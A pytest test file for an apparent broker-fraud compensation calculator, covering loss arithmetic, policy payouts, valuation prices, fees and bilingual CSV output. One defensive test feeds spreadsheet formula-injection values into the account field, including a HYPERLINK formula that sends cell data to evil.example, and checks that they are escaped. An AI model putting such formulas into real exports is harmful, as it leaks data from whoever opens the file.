"""The compensation calculator on hand-built accounts whose losses are worked out by hand.

V1 held 100 shares of 1111 at ¥1,000. The attacker sold them (¥100,000) and bought 1,000 shares
of the thin 9999 at ¥95 (¥95,000, in two fills of one order). On the valuation date 9999 closes
at ¥40 and 1111 at ¥1,100:

- buy loss  = 95,000 − 1,000 × 40 = ¥55,000
- sale loss = 100 × 1,100 − 100,000 = ¥10,000 (the upside the customer lost)
- fees      = ¥99 (sale of ¥100,000) + ¥99 (buy of ¥95,000) = ¥198 (shipped TSE schedule)

V2's holdings of 2222 (200 at ¥500) were only sold, and 2222 closes at ¥600: sale loss ¥20,000.
V3's 3333 (100 at ¥1,000) was only sold and closes at ¥800: the sale did not hurt, loss ¥0.
"""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import msgspec
import pytest
from reports_helpers import (
    bar,
    daily,
    decision,
    fill,
    jst,
    login,
    order,
    truth,
    withdrawal,
    write_run,
)

from brokerguard.events import MarketBar
from brokerguard.reports import (
    CompensationRow,
    FeeRule,
    PriceBook,
    ReportError,
    compensation_table,
    load_policies,
    resolve_policies,
    victim_losses,
    write_compensation_csv,
)
from brokerguard.truth import Victim


def scenario_run(tmp_path: Path) -> Path:
    d1, d2 = jst(2025, 3, 24), jst(2025, 3, 28)
    events = [
        # V1: holdings sold, proceeds into the thin stock
        order("o1", "V1", jst(2025, 3, 24, 10), "n1", "1111", "sell", 100),
        fill("x1", "V1", jst(2025, 3, 24, 10), "n1", "1111", "sell", 100, 1000),
        order("o2", "V1", jst(2025, 3, 24, 10, 5), "n2", "9999", "buy", 1000),
        fill("x2", "V1", jst(2025, 3, 24, 10, 5), "n2", "9999", "buy", 600, 95),
        fill("x3", "V1", jst(2025, 3, 24, 10, 6), "n2", "9999", "buy", 400, 95),
        # V2, V3: sales only
        order("o3", "V2", jst(2025, 3, 24, 11), "n3", "2222", "sell", 200),
        fill("x4", "V2", jst(2025, 3, 24, 11), "n3", "2222", "sell", 200, 500),
        order("o4", "V3", jst(2025, 3, 24, 11), "n4", "3333", "sell", 100),
        fill("x5", "V3", jst(2025, 3, 24, 11), "n4", "3333", "sell", 100, 1000),
        # V1's own later trade is not the fraud's
        fill("x6", "V1", jst(2025, 3, 26, 10), "own", "9999", "sell", 100, 50),
        # daily closes: first day, then the valuation date
        daily("b1", "9999", d1.replace(hour=15, minute=30), 90),
        daily("b2", "1111", d1.replace(hour=15, minute=30), 1000),
        daily("b3", "2222", d1.replace(hour=15, minute=30), 500),
        daily("b4", "3333", d1.replace(hour=15, minute=30), 1000),
        daily("b5", "9999", d2.replace(hour=15, minute=30), 40),
        daily("b6", "1111", d2.replace(hour=15, minute=30), 1100),
        daily("b7", "2222", d2.replace(hour=15, minute=30), 600),
        daily("b8", "3333", d2.replace(hour=15, minute=30), 800),
    ]
    labels = truth(
        [
            Victim(account="V1", attack=0, events=["o1", "x1", "o2", "x2", "x3"], orders=["n1"]),
            Victim(account="V2", attack=0, events=["o3", "x4"], orders=["n3"]),
            Victim(account="V3", attack=0, events=["o4", "x5"], orders=["n4"]),
        ]
    )
    return write_run(tmp_path / "run", events, [], labels)


def rows_of(run: Path, **kw) -> dict[tuple[str, str], CompensationRow]:
    rows = compensation_table(run, resolve_policies(None), **kw)
    return {(r.policy, r.account): r for r in rows}


def test_losses_of_the_worked_example(tmp_path: Path) -> None:
    report = victim_losses(scenario_run(tmp_path))
    assert report.valuation_date == date(2025, 3, 28)  # the last day of the stream
    v1, v2, v3 = report.victims
    assert (v1.account, v1.buy_loss_jpy, v1.sale_loss_jpy) == ("V1", 55_000, 10_000)
    assert sorted(v for _, v in v1.orders) == [95_000, 100_000]  # one order, two fills
    assert (v2.buy_loss_jpy, v2.sale_loss_jpy, v2.bought) == (0, 20_000, False)
    assert (v3.buy_loss_jpy, v3.sale_loss_jpy) == (0, 0)  # the price fell: no loss from the sale


@pytest.mark.parametrize(
    ("policy", "account", "eligible", "payout"),
    [
        ("sbi-rakuten-2025", "V1", True, 27_500 + 198 + 10_000),
        ("matsui-2025", "V1", True, (55_000 + 10_000) // 2),
        ("full-restoration", "V1", True, 55_000 + 10_000 + 198),
        ("sbi-rakuten-2025", "V2", False, 0),  # sales only: excluded
        ("matsui-2025", "V2", True, 10_000),  # forced-sale loss covered
        ("full-restoration", "V2", True, 20_000 + 99),
        ("sbi-rakuten-2025", "V3", False, 0),
        ("matsui-2025", "V3", True, 0),
        ("full-restoration", "V3", True, 99),  # nothing lost but the fee
    ],
)
def test_payout_under_each_policy(
    tmp_path: Path, policy: str, account: str, eligible: bool, payout: int
) -> None:
    row = rows_of(scenario_run(tmp_path))[(policy, account)]
    assert (row.eligible, row.payout_jpy) == (eligible, payout)


def test_rows_carry_components_and_explain_them_in_both_languages(tmp_path: Path) -> None:
    rows = rows_of(scenario_run(tmp_path))
    sbi = rows[("sbi-rakuten-2025", "V1")]
    assert (sbi.buy_loss_jpy, sbi.sale_loss_jpy, sbi.fees_jpy, sbi.fixed_jpy) == (
        55_000,
        10_000,
        198,
        10_000,
    )
    assert "bought 1,000 TSE:9999 for ¥95,000, worth ¥40,000 at ¥40" in sbi.explanation_en
    assert "daily close 2025-03-28" in sbi.explanation_en
    assert (
        "payout = buy loss ¥55,000 × 50% + fees ¥198 + fixed ¥10,000 = ¥37,698"
        in sbi.explanation_en
    )
    assert "TSE:9999 1,000株を¥95,000で不正買付、評価額¥40,000" in sbi.explanation_ja
    assert "支払額 = 買付損失¥55,000 × 50% + 手数料¥198 + 定額¥10,000 = ¥37,698" in (
        sbi.explanation_ja
    )
    excluded = rows[("sbi-rakuten-2025", "V2")]
    assert excluded.fixed_jpy == 0
    assert "sales only" in excluded.explanation_en and "売却のみ" in excluded.explanation_ja
    fell = rows[("full-restoration", "V3")]
    assert "no loss (the price fell)" in fell.explanation_en
    assert "値下がりのため損失なし" in fell.explanation_ja


def test_an_earlier_valuation_date_uses_that_day_s_close(tmp_path: Path) -> None:
    rows = rows_of(scenario_run(tmp_path), valuation_date=date(2025, 3, 25))
    # Last close on or before 25 Mar is 24 Mar's: 9999 at ¥90, 1111 at ¥1,000.
    v1 = rows[("full-restoration", "V1")]
    assert (v1.buy_loss_jpy, v1.sale_loss_jpy) == (5_000, 0)


def test_a_valuation_date_before_the_fraud_is_refused(tmp_path: Path) -> None:
    """The error says which date would do: the last unauthorized fill's (11:00, V2's and V3's
    sales; the first of them in the log is named)."""
    with pytest.raises(ReportError) as raised:
        victim_losses(scenario_run(tmp_path), valuation_date=date(2025, 3, 23))
    assert raised.value.field == "valuation_date"
    assert raised.value.problem == (
        "2025-03-23 is before the last unauthorized fill (2025-03-24 11:00 Japan time, account "
        "V2, order n3); expected a date on or after 2025-03-24"
    )


def test_shares_bought_and_sold_again_are_settled_at_both_prices(tmp_path: Path) -> None:
    events = [
        order("o1", "V", jst(2025, 3, 24, 10), "n1", "9999", "buy", 1000),
        fill("x1", "V", jst(2025, 3, 24, 10), "n1", "9999", "buy", 1000, 100),
        order("o2", "V", jst(2025, 3, 24, 11), "n2", "9999", "sell", 400),
        fill("x2", "V", jst(2025, 3, 24, 11), "n2", "9999", "sell", 400, 90),
        daily("b1", "9999", jst(2025, 3, 24, 15, 30), 50),
    ]
    labels = truth([Victim(account="V", attack=0, events=["o1", "o2"])])
    (loss,) = victim_losses(write_run(tmp_path / "r", events, None, labels)).victims
    # 400 round trip: 400 × (100 − 90) = 4,000; 600 held: 600 × (100 − 50) = 30,000
    assert (loss.buy_loss_jpy, loss.sale_loss_jpy) == (34_000, 0)


def test_withdrawals_paid_out_count_only_under_full_restoration(tmp_path: Path) -> None:
    paid = withdrawal("w1", "V", jst(2025, 3, 24, 10), 50_000)
    stopped = withdrawal("w2", "V", jst(2025, 3, 24, 11), 70_000)
    labels = truth([Victim(account="V", attack=0, events=["w1", "w2"])])
    run = write_run(
        tmp_path / "r",
        [paid, stopped],
        [decision(paid, "allow"), decision(stopped, "deny")],
        labels,
    )
    rows = rows_of(run)
    assert rows[("full-restoration", "V")].payout_jpy == 50_000
    assert rows[("full-restoration", "V")].withdrawn_jpy == 50_000
    excluded = rows[("sbi-rakuten-2025", "V")]
    assert not excluded.eligible and "proceeds stay" not in excluded.explanation_en


# --- valuation prices -----------------------------------------------------------------------


def test_price_book_prefers_the_day_s_close_then_the_latest_day() -> None:
    book = PriceBook(date(2025, 3, 25))
    book.observe(fill("x", "A", jst(2025, 3, 25, 14, 59), "n", "9999", "buy", 100, 70))
    book.observe(daily("b1", "9999", jst(2025, 3, 25, 15, 30), 60))
    book.observe(bar("b2", "9999", jst(2025, 3, 25, 15, 0), 65))  # same day: the close wins
    price = book.price("TSE", "9999")
    assert price is not None and (price.price, price.source) == (60, "daily close")
    book.observe(bar("b3", "9999", jst(2025, 3, 26, 9, 0), 80))  # after the date: ignored
    assert book.price("TSE", "9999").price == 60  # type: ignore[union-attr]
    later = PriceBook(date(2025, 3, 26))
    later.observe(daily("b1", "9999", jst(2025, 3, 25, 15, 30), 60))
    later.observe(fill("x", "A", jst(2025, 3, 26, 9, 1), "n", "9999", "buy", 100, 72))
    assert later.price("TSE", "9999").price == 72  # type: ignore[union-attr]
    assert later.price("TSE", "1111") is None


def test_a_new_york_symbol_is_valued_at_its_latest_session_in_japan_time() -> None:
    """New York closes at 05:00/06:00 the next morning in Japan: on one Japan date the previous
    session's close and the evening's new session both appear, and the newer must win."""

    def us(event: MarketBar) -> MarketBar:
        return msgspec.structs.replace(event, market="US")

    book = PriceBook(date(2025, 3, 21))
    # the 20 March session's close, stamped at 16:00 New York = 05:00 on the 21st in Japan
    book.observe(us(daily("c20", "CHNX", jst(2025, 3, 21, 5), 3.0)))
    # the 21 March session opens at 22:30 in Japan; a bar ending 23:05
    book.observe(us(bar("b21", "CHNX", jst(2025, 3, 21, 23), 1.2)))
    price = book.price("US", "CHNX")
    assert price is not None and (price.price, price.source) == (1.2, "bar close")
    # the 21 March close is known only on the 22nd in Japan: after the valuation date
    book.observe(us(daily("c21", "CHNX", jst(2025, 3, 22, 5), 1.0)))
    assert book.price("US", "CHNX").price == 1.2  # type: ignore[union-attr]
    # a feed that stamps the day's bar at its start (00:00 New York = 13:00 in Japan) gives the
    # same trading day, and its close is still not known before the valuation date ends
    early = PriceBook(date(2025, 3, 21))
    early.observe(us(daily("c20", "CHNX", jst(2025, 3, 20, 13), 3.0)))
    early.observe(us(daily("c21", "CHNX", jst(2025, 3, 21, 13), 1.0)))
    price = early.price("US", "CHNX")
    assert price is not None and price.price == 3.0
    assert price.describe("en") == "daily close 2025-03-20"
    assert price.describe("ja") == "2025-03-20 終値"


# --- policies and fees ----------------------------------------------------------------------


def test_fee_schedule_tiers_and_rates() -> None:
    tse = FeeRule(tiers=[(50_000, 55), (100_000, 99)], above=200)
    assert [tse.fee(v) for v in (1, 50_000, 50_001, 100_000, 1e9)] == [55, 55, 99, 99, 200]
    assert FeeRule(tiers=[(50_000, 55)]).fee(60_000) == 55  # no `above`: the last tier's fee
    us = FeeRule(rate=0.00495, minimum=0, maximum=3_300)
    assert (us.fee(100_000), us.fee(10_000_000)) == (495, 3_300)
    with pytest.raises(ValueError, match="increasing"):
        FeeRule(tiers=[(100_000, 99), (50_000, 55)])


def test_policy_files_are_strict_and_name_the_key(tmp_path: Path) -> None:
    path = tmp_path / "mine.toml"
    path.write_text(
        '[policy.ours]\ntitle_en = "o"\ntitle_ja = "お"\nbuy_loss_share = 0.8\nbonus = 1\n'
    )
    with pytest.raises(ReportError, match=r"mine.toml: field `policy.ours.bonus`: .*unknown"):
        load_policies(path)
    path.write_text('[policy.ours]\ntitle_en = "o"\ntitle_ja = "お"\nbuy_loss_share = 1.5\n')
    with pytest.raises(ReportError, match=r"field `policy.ours.buy_loss_share`: .*<= 1"):
        load_policies(path)
    path.write_text("[policy.ours\n")
    with pytest.raises(ReportError, match=r"mine.toml: not valid TOML"):
        load_policies(path)
    with pytest.raises(FileNotFoundError, match="absent.toml: policy file not found"):
        resolve_policies(str(tmp_path / "absent.toml"))
    with pytest.raises(ReportError, match="unknown policy 'nomura'.*sbi-rakuten-2025"):
        resolve_policies("nomura")


def test_a_policy_file_without_fees_uses_the_shipped_schedule(tmp_path: Path) -> None:
    path = tmp_path / "mine.toml"
    path.write_text('[policy.ours]\ntitle_en = "o"\ntitle_ja = "お"\nbuy_loss_share = 0.8\n')
    (ours,) = resolve_policies(str(path))
    assert ours.name == "ours" and ours.fee("TSE", 95_000) == 99
    rows = compensation_table(scenario_run(tmp_path), [ours])
    assert [r.payout_jpy for r in rows] == [44_000, 0, 0]


def test_csv_has_japanese_headers_and_every_row(tmp_path: Path) -> None:
    rows = compensation_table(scenario_run(tmp_path), resolve_policies(None))
    path = write_compensation_csv(rows, tmp_path / "c.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as f:
        read = list(csv.DictReader(f))
    assert len(read) == 9
    first = read[0]
    assert first["口座 (account)"] == "V1"
    assert first["補償方針 (policy)"] == "sbi-rakuten-2025"
    assert first["補償額（円） (payout (JPY))"] == "37698"
    assert first["対象 (eligible)"] == "はい (yes)"
    assert first["評価日 (valuation date)"] == "2025-03-28"
    assert "不正買付" in first["説明 (explanation (Japanese))"]
    assert msgspec.json.encode(rows[0])  # rows serialize for the web console as they are


@pytest.mark.parametrize("account", ['=HYPERLINK("http://evil.example/?"&A1,"V1")', "@SUM(1)"])
def test_an_account_number_that_starts_a_formula_is_text_in_the_csv(
    tmp_path: Path, account: str
) -> None:
    """Excel opens these files; an account number from the events must not run in it."""
    row = msgspec.structs.replace(
        compensation_table(scenario_run(tmp_path), resolve_policies(None))[0], account=account
    )
    path = write_compensation_csv([row], tmp_path / "c.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        read = list(csv.DictReader(f))
    assert read[0]["口座 (account)"] == "'" + account
    assert read[0]["補償方針 (policy)"] == "sbi-rakuten-2025"  # other text as it was


def test_a_log_that_repeats_its_lines_counts_each_fill_and_withdrawal_once(tmp_path: Path) -> None:
    """A log delivered at least once may hold a line twice: the money is still counted once,
    by the losses, the monthly table and the evaluation alike."""
    from brokerguard.evaluate import evaluate_run
    from brokerguard.reports import monthly_table

    run = scenario_run(tmp_path)
    with (run / "events.ndjson").open("ab") as stream:  # a paid-out withdrawal, a sign-in
        stream.write(msgspec.json.encode(withdrawal("w1", "V2", jst(2025, 3, 24, 12), 5000)))
        stream.write(b"\n")
        stream.write(msgspec.json.encode(login("l9", "V2", jst(2025, 3, 24, 12, 1))))
        stream.write(b"\n")
    labels = msgspec.json.decode((run / "truth.json").read_bytes())
    labels["victims"][1]["events"] += ["w1", "l9"]
    (run / "truth.json").write_bytes(msgspec.json.encode(labels))
    once = (victim_losses(run), monthly_table(run), evaluate_run(run)["attack"])

    lines = (run / "events.ndjson").read_bytes().splitlines(keepends=True)
    (run / "events.ndjson").write_bytes(b"".join(line + line for line in lines))
    twice = (victim_losses(run), monthly_table(run), evaluate_run(run)["attack"])

    assert once[0].victims[0].buy_loss_jpy == 55_000  # the worked example, unchanged
    assert once[2]["unauthorized_withdrawals_jpy"] == 5000
    assert sum(row.logins for row in once[1]) == 1  # the sign-in let through (no decisions)
    assert twice[0] == once[0] and twice[1] == once[1]
    assert twice[2]["unauthorized_value_jpy"] == once[2]["unauthorized_value_jpy"] > 0
    assert twice[2]["unauthorized_withdrawals_jpy"] == 5000


def test_the_default_valuation_date_is_the_day_its_prices_are_known(tmp_path: Path) -> None:
    """A broker's feed may stamp a New York daily bar at the start of the day (13:00 in
    Japan); its close is known at 05:00 the next morning. Valued without a date, the report used
    that close and called it the last event's day, where a date given as that day used the day
    before's close: the default must be a day whose prices it used, and say so."""

    def us(event):
        return msgspec.structs.replace(event, market="US")

    events = [
        us(order("o1", "V", jst(2025, 3, 20, 23), "n1", "CHNX", "buy", 100)),
        us(fill("x1", "V", jst(2025, 3, 20, 23), "n1", "CHNX", "buy", 100, 5.0)),
        us(daily("c20", "CHNX", jst(2025, 3, 20, 13), 3.0)),  # 20 Mar, known 21 Mar 05:00
        us(daily("c21", "CHNX", jst(2025, 3, 21, 13), 1.0)),  # 21 Mar, known 22 Mar 05:00
    ]
    labels = truth([Victim(account="V", attack=0, events=["o1", "x1"])])
    run = write_run(tmp_path / "r", events, None, labels)
    default = victim_losses(run)
    assert default.valuation_date == date(2025, 3, 22)
    assert default == victim_losses(run, valuation_date=default.valuation_date)
    (loss,) = default.victims
    assert loss.buy_loss_jpy == 100 * (5 - 1)


def test_without_events_there_is_no_valuation_date(tmp_path: Path) -> None:
    """Not today's date: a report of an empty log names no day at all."""
    report = victim_losses(write_run(tmp_path / "r", [], None, truth([])))
    assert (report.valuation_date, report.victims) == (None, [])


def test_a_sale_at_the_valuation_price_says_the_price_did_not_rise(tmp_path: Path) -> None:
    """Sold at ¥1,000 and worth ¥1,000 on the valuation date: the customer lost no upside, but
    the price did not fall either, as the letter said."""
    events = [
        order("o1", "V", jst(2025, 3, 24, 10), "n1", "1111", "sell", 100),
        fill("x1", "V", jst(2025, 3, 24, 10), "n1", "1111", "sell", 100, 1000),
        daily("b1", "1111", jst(2025, 3, 25, 15, 30), 1000),
    ]
    labels = truth([Victim(account="V", attack=0, events=["o1", "x1"])])
    row = rows_of(write_run(tmp_path / "r", events, None, labels))[("full-restoration", "V")]
    assert row.sale_loss_jpy == 0
    assert "sold 100 TSE:1111 for ¥100,000, worth ¥100,000" in row.explanation_en
    assert "no loss (the price did not rise)" in row.explanation_en
    assert "the price fell" not in row.explanation_en
    assert "値上がりしていないため損失なし" in row.explanation_ja
    assert "値下がり" not in row.explanation_ja


def _sold_and_bought_back(tmp_path: Path, back_at: float, close: float) -> dict:
    """V's 200 shares of 1111 sold at ¥1,000 (¥200,000); 100 bought back at ``back_at``;
    1111 closes at ``close`` on the valuation date."""
    events = [
        order("o1", "V", jst(2025, 3, 24, 10), "n1", "1111", "sell", 200),
        fill("x1", "V", jst(2025, 3, 24, 10), "n1", "1111", "sell", 200, 1000),
        order("o2", "V", jst(2025, 3, 24, 13), "n2", "1111", "buy", 100),
        fill("x2", "V", jst(2025, 3, 24, 13), "n2", "1111", "buy", 100, back_at),
        daily("b1", "1111", jst(2025, 3, 25, 15, 30), close),
    ]
    labels = truth([Victim(account="V", attack=0, events=["o1", "x1", "o2", "x2"])])
    return rows_of(write_run(tmp_path / "r", events, None, labels))


def test_a_buy_back_below_the_sale_price_offsets_the_sale_loss(tmp_path: Path) -> None:
    """Before: 200 shares, worth ¥220,000 at ¥1,100. After: 100 shares (¥110,000) and
    ¥200,000 − ¥90,000 = ¥110,000 more cash: ¥220,000, nothing lost. The 100 not bought back
    lost ¥10,000 of upside; buying 100 back ¥100 a share under the sale price gained ¥10,000.
    The sale loss was ¥10,000, the gain clamped to zero apart."""
    row = _sold_and_bought_back(tmp_path, back_at=900, close=1100)[("full-restoration", "V")]
    assert (row.buy_loss_jpy, row.sale_loss_jpy) == (0, 0)
    assert row.payout_jpy == row.fees_jpy == 115 + 99  # the two orders' fees, nothing else
    assert "¥10,000 below the sale price, set against the sale loss below" in row.explanation_en
    assert (
        "sold 100 TSE:1111 for ¥100,000, worth ¥110,000 at ¥1,100 (daily close 2025-03-25): "
        "¥10,000 upside less the ¥10,000 gained buying back below the sale price: no loss"
        in row.explanation_en
    )
    assert "値上がり分¥10,000から買い戻し差益¥10,000を差し引き損失なし" in row.explanation_ja
    assert "売却価格より¥10,000安く、下記の売却損失と相殺" in row.explanation_ja
    # at ¥1,200 the upside (¥20,000) outweighs the gain: ¥10,000 is lost
    rows = _sold_and_bought_back(tmp_path / "higher", back_at=900, close=1200)
    row = rows[("matsui-2025", "V")]
    assert (row.buy_loss_jpy, row.sale_loss_jpy, row.payout_jpy) == (0, 10_000, 5_000)
    assert "less the ¥10,000 gained buying back below the sale price: loss ¥10,000" in (
        row.explanation_en
    )


def test_a_buy_back_above_the_sale_price_is_a_buy_loss_less_a_fall_since(tmp_path: Path) -> None:
    """Bought back at ¥1,100 (¥10,000 over the sale price); the other 100 closed at ¥950,
    ¥5,000 under it: before, 200 shares worth ¥190,000; after, 100 (¥95,000) and ¥90,000 more
    cash: ¥185,000, so ¥5,000 is lost, a buy loss."""
    row = _sold_and_bought_back(tmp_path, back_at=1100, close=950)[("full-restoration", "V")]
    assert (row.buy_loss_jpy, row.sale_loss_jpy) == (5_000, 0)
    assert "¥10,000 above the sale price, less the ¥5,000 the price fell" in row.explanation_en
    assert "売却価格より¥10,000高く、下記の売却後の値下がり¥5,000と相殺：損失¥5,000" in (
        row.explanation_ja
    )


def test_a_csv_write_that_fails_half_way_keeps_the_last_complete_file(tmp_path: Path) -> None:
    """The CSV was opened with ``open(path, "w")``, which empties it first: a failure after the
    first row left a cut table where last month's complete one had been."""
    rows = compensation_table(scenario_run(tmp_path), resolve_policies(None))
    path = write_compensation_csv(rows, tmp_path / "out" / "c.csv")
    complete = path.read_bytes()

    def cut_short():
        yield rows[0]
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space left"):
        write_compensation_csv(cut_short(), path)  # type: ignore[arg-type]
    assert path.read_bytes() == complete
    assert [p.name for p in path.parent.iterdir()] == ["c.csv"]
